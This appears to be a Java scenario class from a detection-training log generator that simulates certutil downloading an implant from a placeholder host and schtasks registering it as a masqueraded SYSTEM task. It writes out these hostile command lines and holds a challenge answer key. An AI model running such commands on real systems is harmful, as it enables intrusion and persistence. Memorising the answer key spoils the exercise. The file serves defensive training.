package io.helklab.samples.generator.scenario;

import io.helklab.samples.AttackTechnique;
import io.helklab.samples.RecordFormat;
import io.helklab.samples.generator.HelkValues;
import io.helklab.samples.generator.domain.InternetDirectory;
import io.helklab.samples.generator.domain.SimulatedProcess;
import io.helklab.samples.generator.event.EventTimes;
import io.helklab.samples.generator.event.LogChannel;
import io.helklab.samples.generator.simulation.HostSimulation;
import io.helklab.samples.generator.simulation.UserDesktop;

import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.List;
import java.util.Map;

/** certutil downloads a binary and schtasks registers it as a SYSTEM task that runs every 30 minutes on WKS01. */
public final class ScheduledTaskPersistence extends AttackScenario {

    private static final String TASK_NAME = "\\Microsoft\\Windows\\Maintenance\\SvcHealthCheck";
    private static final String IMPLANT = "C:\\ProgramData\\Microsoft\\Diagnosis\\svchealth.exe";
    private static final String DOWNLOAD_DOMAIN = "files.cloud-sync.example.net";
    private static final String CONTROL_DOMAIN = "status.cloud-sync.example.net";

    public ScheduledTaskPersistence() {
        super("scheduled-task-persistence", "Scheduled task persistence after a certutil download",
                List.of(new AttackTechnique("T1053.005", "Scheduled Task/Job: Scheduled Task"),
                        new AttackTechnique("T1105", "Ingress Tool Transfer"),
                        new AttackTechnique("T1036.004", "Masquerading: Masquerade Task or Service")),
                RecordFormat.NXLOG_JSON, LocalDate.of(2026, 10, 9), List.of("DC01", "SRV01", "WKS01", "WKS03"),
                "An intruder with amartin's elevated prompt on WKS01 uses certutil -urlcache to download svchealth.exe into "
                        + "C:\\ProgramData\\Microsoft\\Diagnosis, then schtasks /create registers it under a Microsoft-looking task path "
                        + "to run as SYSTEM every 30 minutes. The Security log records the task (4698, with its XML), Sysmon the task "
                        + "file and every run: svchost.exe (Schedule) starting svchealth.exe, which calls home each time. "
                        + "This dataset was shipped by NXLog (flat fields, EventTime without a zone).");
    }

    @Override
    public void perform(ScenarioContext context) {
        HostSimulation workstation = context.machine("WKS01");
        Instant start = context.at(LocalTime.of(9, 37, 5));
        UserDesktop desktop = workstation.desktopAt(start);
        SimulatedProcess shell = workstation.start(start, desktop.explorer(), AttackTools.CMD, "\"C:\\Windows\\system32\\cmd.exe\" ",
                desktop.session(), "High", "C:\\Windows\\system32\\");
        Instant download = start.plusSeconds(48);
        SimulatedProcess certutil = workstation.start(download, shell, "C:\\Windows\\System32\\certutil.exe",
                "certutil  -urlcache -split -f http://" + DOWNLOAD_DOMAIN + "/dl/svchealth.exe " + IMPLANT);
        workstation.network().lookupAndConnect(download.plusMillis(300), certutil, DOWNLOAD_DOMAIN, 80);
        workstation.sysmon().fileCreate(download.plusSeconds(2), certutil, IMPLANT);
        workstation.terminate(download.plusSeconds(3), certutil);

        Instant scheduled = download.plusSeconds(31);
        SimulatedProcess schtasks = workstation.start(scheduled, shell, "C:\\Windows\\System32\\schtasks.exe",
                "schtasks  /create /tn \"" + TASK_NAME + "\" /tr \"" + IMPLANT + "\" /sc minute /mo 30 /ru SYSTEM /rl HIGHEST /f");
        workstation.loadModules(scheduled.plusMillis(60), schtasks, "C:\\Windows\\System32\\taskschd.dll");
        SimulatedProcess scheduler = workstation.service("svchost:Schedule");
        workstation.security().scheduledTaskCreated(scheduled.plusMillis(400), desktop.session(), TASK_NAME,
                taskXml(scheduled, desktop.session().account().qualifiedName()), schtasks.processId(), shell.processId());
        String taskFile = "C:\\Windows\\System32\\Tasks" + TASK_NAME;
        workstation.sysmon().fileCreate(scheduled.plusMillis(420), scheduler, taskFile);
        workstation.sysmon().registrySetValue(scheduled.plusMillis(430), scheduler,
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree" + TASK_NAME + "\\Index", "DWORD (0x00000003)");
        workstation.terminate(scheduled.plusSeconds(1), schtasks);
        workstation.terminate(scheduled.plusSeconds(200), shell);

        SimulatedProcess firstRun = null;
        int runs = 0;
        for (Instant run = scheduled.plusSeconds(60); run.isBefore(context.window().end().minusSeconds(60)); run = run.plusSeconds(1800)) {
            SimulatedProcess implant = workstation.start(run, scheduler, IMPLANT, IMPLANT, workstation.systemSession(), "System",
                    "C:\\Windows\\system32\\");
            workstation.network().lookupAndConnect(run.plusSeconds(1), implant, CONTROL_DOMAIN, 443);
            workstation.terminate(run.plusSeconds(4 + context.random().nextInt(6)), implant);
            firstRun = firstRun == null ? implant : firstRun;
            runs++;
        }

        context.answers()
                .processCreated("schtasks.exe registering the task", schtasks)
                .processCreated("certutil.exe downloading the implant", certutil)
                .fact("The Security log's record of the new task (4698)", LogChannel.SECURITY,
                        Map.of("event_id", 4698, "host_name", HelkValues.host(workstation.host().fullyQualifiedName())), 1)
                .sysmonEvent("The task definition written by the Task Scheduler", 11, scheduler, Map.of("file_name", HelkValues.lower(taskFile)), 1)
                .sysmonEvent("The implant downloaded by certutil", 11, certutil, Map.of("file_name", HelkValues.lower(IMPLANT)), 1)
                .processCreated("The task's first run: svchost.exe (Schedule) starts the implant as SYSTEM", firstRun)
                .fact("Every run of the implant", LogChannel.SYSMON, Map.of("event_id", 1, "host_name", HelkValues.host(workstation.host().fullyQualifiedName()),
                        "process_path", HelkValues.lower(IMPLANT), "process_parent_path", HelkValues.lower(scheduler.path())), runs)
                .sysmonEvent("The implant calling home on its first run", 3, firstRun,
                        Map.of("dst_ip_addr", InternetDirectory.addressOf(CONTROL_DOMAIN)), 1)
                .challenge("task-name", "What is the name of the malicious scheduled task?", TASK_NAME, "svchealthcheck",
                        TASK_NAME.substring(1))
                .challenge("schtasks-command-line", "What is the schtasks command line that created it?", HelkValues.lower(schtasks.commandLine()))
                .challenge("implant", "Which program does the task run?", HelkValues.lower(IMPLANT), "svchealth.exe")
                .challenge("interval", "How often does the task run?", "30 minutes", "every 30 minutes", "30", "30 min", "30m", "pt30m")
                .challenge("download-tool", "Which built-in tool downloaded the implant?", "certutil.exe", "certutil");
    }

    private static String taskXml(Instant registered, String author) {
        return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
                + "  <RegistrationInfo>\r\n    <Date>" + EventTimes.taskRegistration(registered) + "</Date>\r\n    <Author>" + author
                + "</Author>\r\n    <URI>" + TASK_NAME + "</URI>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <TimeTrigger>\r\n"
                + "      <Repetition>\r\n        <Interval>PT30M</Interval>\r\n        <StopAtDurationEnd>false</StopAtDurationEnd>\r\n"
                + "      </Repetition>\r\n      <StartBoundary>" + EventTimes.taskRegistration(registered.plusSeconds(60))
                + "</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n"
                + "    <Principal id=\"Author\">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n"
                + "    </Principal>\r\n  </Principals>\r\n  <Settings>\r\n    <Enabled>true</Enabled>\r\n    <Hidden>false</Hidden>\r\n"
                + "  </Settings>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>" + IMPLANT + "</Command>\r\n"
                + "    </Exec>\r\n  </Actions>\r\n</Task>";
    }
}
